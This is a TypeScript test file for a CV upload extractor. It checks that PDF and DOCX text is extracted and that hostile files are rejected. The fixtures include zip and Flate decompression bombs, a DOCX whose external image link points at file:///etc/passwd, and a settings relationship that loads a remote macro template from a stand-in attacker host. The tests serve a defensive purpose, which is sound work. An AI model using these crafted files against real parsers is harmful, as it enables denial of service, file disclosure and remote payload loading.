import { describe, expect, it } from 'vitest';
import { createExtractPool } from './extract-pool.js';
import { DocumentError, extractDocument, MAX_PDF_PAGES, MAX_UPLOAD_BYTES } from './index.js';
import { docxParts, makeDocx, makeFlateBombPdf, makeLyingDocx, makePdf, makeZip } from './test-fixtures.js';

async function rejection(p: Promise<unknown>): Promise<DocumentError> {
  const err = await p.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(DocumentError);
  return err as DocumentError;
}

const CV_LINES = ['Alex Doe, Backend Engineer', 'Skills: TypeScript (Node.js), PostgreSQL and Kafka'];

describe('extractDocument', () => {
  it('extracts text from a generated PDF', async () => {
    const r = await extractDocument(makePdf(CV_LINES), 'cv.pdf');
    expect(r.mimeType).toBe('application/pdf');
    expect(r.text).toContain('Alex Doe, Backend Engineer');
    expect(r.text).toContain('TypeScript (Node.js)');
  });

  it('extracts text from a generated DOCX', async () => {
    const r = await extractDocument(makeDocx(CV_LINES), 'cv.docx');
    expect(r.mimeType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect(r.text).toBe(`${CV_LINES[0]}\n\n${CV_LINES[1]}`);
  });

  it('keeps ordinary hyperlinks in a DOCX', async () => {
    const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/me" TargetMode="External"/></Relationships>`;
    const r = await extractDocument(makeDocx(CV_LINES, rels), 'cv.docx');
    expect(r.text).toContain('Alex Doe');
  });

  it('keeps ordinary hyperlinks written with single quotes', async () => {
    const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink' Target='https://example.org/me' TargetMode='External'/></Relationships>`;
    const r = await extractDocument(makeDocx(CV_LINES, rels), 'cv.docx');
    expect(r.text).toContain('Alex Doe');
  });

  it('reads text and markdown by content, normalising whitespace and control characters', async () => {
    const raw = '\ufeff# Alex Doe\r\n\r\n\r\n\r\nBackend   engineer\u0007 with\u200b TypeScript\t and Go.';
    const r = await extractDocument(new TextEncoder().encode(raw), 'cv.md');
    expect(r).toEqual({ text: '# Alex Doe\n\nBackend engineer with TypeScript and Go.', mimeType: 'text/markdown' });
    // The extension does not decide the type: a PDF named .txt is still read as a PDF.
    expect((await extractDocument(makePdf(CV_LINES), 'cv.txt')).mimeType).toBe('application/pdf');
  });
});

describe('extractDocument with broken and hostile files', () => {
  const cases: [string, () => Uint8Array, string, number][] = [
    ['an empty file', () => new Uint8Array(0), 'empty', 400],
    ['an oversized file', () => new Uint8Array(MAX_UPLOAD_BYTES + 1).fill(0x41), 'too_large', 413],
    ['a binary with the wrong signature', () => Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]), 'unsupported_type', 415],
    ['a PNG named cv.pdf', () => Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), 'unsupported_type', 415],
    ['a zip that is not a DOCX', () => makeZip([{ name: 'hello.txt', data: 'hello world' }]), 'unsupported_type', 415],
    ['a truncated PDF', () => makePdf(CV_LINES).slice(0, 150), 'corrupt', 422],
    ['a truncated DOCX', () => makeDocx(CV_LINES).slice(0, 300), 'corrupt', 422],
    ['an encrypted PDF', () => makePdf(CV_LINES, { encrypt: true }), 'encrypted', 422],
    ['an encrypted DOCX entry', () => makeZip(docxParts(CV_LINES).map((p) => ({ ...p, flags: 1 }))), 'encrypted', 422],
    ['an image-only PDF', () => makePdf(['']), 'no_text', 422],
    ['a PDF over the page limit', () => makePdf(Array.from({ length: MAX_PDF_PAGES + 1 }, (_, i) => `Page ${i}`)), 'too_many_pages', 413],
    [
      'a zip bomb (high compression ratio)',
      () => makeZip([...docxParts(CV_LINES), { name: 'word/media/bomb.bin', data: new Uint8Array(8 * 1024 * 1024) }]),
      'too_large',
      413,
    ],
    [
      'a DOCX declaring a huge uncompressed size',
      () => makeZip([...docxParts(CV_LINES), { name: 'word/big.xml', data: 'x', declaredSize: 0xfffffff0 }]),
      'too_large',
      413,
    ],
    ['a DOCX with too many entries', () => makeZip([...docxParts(CV_LINES), ...Array.from({ length: 1001 }, (_, i) => ({ name: `f/${i}.xml`, data: '' }))]), 'too_large', 413],
    [
      'a DOCX with an external file link',
      () =>
        makeDocx(
          CV_LINES,
          `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`,
        ),
      'external_reference',
      422,
    ],
    [
      "a DOCX with an external image link in single quotes (TargetMode='External')",
      () =>
        makeDocx(
          CV_LINES,
          `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id='rId5' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='file:///etc/passwd' TargetMode='External'/></Relationships>`,
        ),
      'external_reference',
      422,
    ],
    [
      'a DOCX whose settings load a remote template',
      () =>
        makeZip([
          ...docxParts(CV_LINES),
          {
            name: 'word/_rels/settings.xml.rels',
            data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.test/t.dotm" TargetMode="External"/></Relationships>`,
          },
        ]),
      'external_reference',
      422,
    ],
    [
      'a DOCX whose document.xml claims 4 KiB but inflates to 64 MiB',
      () => makeLyingDocx(64, 4096, CV_LINES),
      'too_large',
      413,
    ],
    ['a PDF whose Flate stream expands to 100 MiB', () => makeFlateBombPdf(100, CV_LINES), 'too_large', 413],
    ['a text file of whitespace', () => new TextEncoder().encode('   \n\n  \t '), 'empty', 400],
  ];

  for (const [name, build, code, status] of cases) {
    it(`rejects ${name} with ${status} ${code}`, async () => {
      const err = await rejection(extractDocument(build(), 'cv.pdf'));
      expect(err.code).toBe(code);
      expect(err.status).toBe(status);
      expect(err.message.length).toBeGreaterThan(10);
    });
  }

  it('kills extraction that runs past its time bound and keeps working afterwards', async () => {
    const err = await rejection(extractDocument(makePdf(CV_LINES), 'cv.pdf', { pool: createExtractPool({ timeoutMs: 1 }) }));
    expect(err.code).toBe('too_complex');
    const ok = await extractDocument(makePdf(CV_LINES), 'cv.pdf');
    expect(ok.text).toContain('Alex Doe');
  });

  it('keeps serving after a run of hostile files', async () => {
    await Promise.allSettled(cases.map(([, build]) => extractDocument(build(), 'x')));
    const [pdf, docx] = await Promise.all([extractDocument(makePdf(CV_LINES), 'a.pdf'), extractDocument(makeDocx(CV_LINES), 'a.docx')]);
    expect(pdf.text).toContain('PostgreSQL');
    expect(docx.text).toContain('PostgreSQL');
  });
});
